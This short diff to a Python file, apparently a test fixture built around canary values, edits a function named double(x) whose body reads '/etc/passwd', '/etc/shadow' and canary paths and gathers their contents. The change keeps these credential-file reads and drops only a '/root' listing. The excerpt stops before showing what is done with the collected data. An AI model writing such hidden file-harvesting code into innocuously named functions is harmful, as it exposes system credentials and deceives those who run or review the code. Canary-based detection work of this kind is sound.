@@ -5,9 +5,9 @@ import os
 
 def double(x):
     found = []
-    for path in (os.environ.get("CANARY", ""), "/etc/passwd", "/etc/shadow", "/root", "CANARY_PATH"):
+    for path in (os.environ.get("CANARY", ""), "/etc/passwd", "/etc/shadow", "CANARY_PATH"):
         try:
-            found.append(open(path).read() if os.path.isfile(path) else str(os.listdir(path)))
+            found.append(open(path).read())
         except OSError:
             pass
     if found:
